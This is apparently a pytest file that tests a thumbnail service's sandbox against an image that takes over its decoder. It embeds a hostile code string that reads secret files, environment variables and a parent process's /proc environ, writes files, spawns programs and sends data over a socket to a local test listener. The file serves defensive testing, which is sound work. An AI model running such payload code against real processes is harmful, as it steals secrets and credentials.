"""What the sandbox of the thumbnails is worth: an image that takes over its decoder."""

from __future__ import annotations

import asyncio
import os
from pathlib import Path

import pytest

from asyncpool import Pool, Sandbox
from tests.helpers import planted
from tests.helpers.patience import patience
from tests.helpers.sandboxes import needs_sandbox
from thumbnails.app import SANDBOX

pytestmark = pytest.mark.asyncio

# What hostile code tries, in the process that it has taken over.
HOSTILE = """
import sys
loot = sys.modules["tests.helpers.planted"].loot
loot.append("running")
def steal(what, how):
    try:
        if how() is not False:
            loot.append(what)
    except BaseException:
        pass
def connect():
    import _socket
    s = _socket.socket()
    s.connect(("127.0.0.1", {port}))
    s.send(b"stolen")
import os
steal("file", lambda: open({secret!r}).read())
steal("environment", lambda: os.environ["PLANTED_SECRET"])
steal("launcher's environment", lambda: open("/proc/%d/environ" % os.getppid()).read(1))
steal("write", lambda: open({secret!r} + ".own", "w").write("mine"))
steal("connection", connect)
steal("program", lambda: os.posix_spawn("/bin/true", ["true"], {{}}) and None)
steal("signal", lambda: os.kill({service}, 0))
"""
ALL = {
    "running",
    "file",
    "environment",
    "launcher's environment",
    "write",
    "connection",
    "program",
    "signal",
}


async def _loot(
    folder: Path, monkeypatch: pytest.MonkeyPatch, sandbox: Sandbox | None
) -> tuple[set[str], list[bytes]]:
    """Return what a hostile image gets in a pool, and what a server was sent."""
    secret, sent = folder / "secret", list[bytes]()
    secret.write_text("of the service")
    monkeypatch.setenv("PLANTED_SECRET", "of the service")

    async def listen(
        reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        sent.append(await reader.read())
        writer.close()

    server = await asyncio.start_server(listen, "127.0.0.1")
    port = server.sockets[0].getsockname()[1]
    async with (
        patience(),
        server,
        Pool(
            1,
            preload=["tests.helpers.planted"],
            sandbox=sandbox,
            codec="msgspec",
            functions=["tests.helpers.planted:*"],
        ) as pool,
    ):
        assert await pool.submit(planted.decode, planted.good_image(9)) == ["9 pixels"]
        address = await pool.submit(planted.where_python_is)
        code = HOSTILE.format(port=port, secret=str(secret), service=os.getpid())
        image = planted.hostile_image(address, code)
        *loot, _ = await pool.submit(planted.decode, image)
        assert await pool.submit(planted.decode, planted.good_image(7)) == ["7 pixels"]
    return set(loot), sent


@needs_sandbox
async def test_an_image_that_takes_over_its_worker_gets_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    loot, sent = await _loot(tmp_path, monkeypatch, SANDBOX)
    assert loot == {"running"}
    assert sent == []
    assert [path.name for path in tmp_path.iterdir()] == ["secret"]


async def test_without_the_sandbox_it_gets_all(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    loot, _ = await _loot(tmp_path, monkeypatch, None)
    assert loot == ALL
    assert (tmp_path / "secret.own").read_text() == "mine"
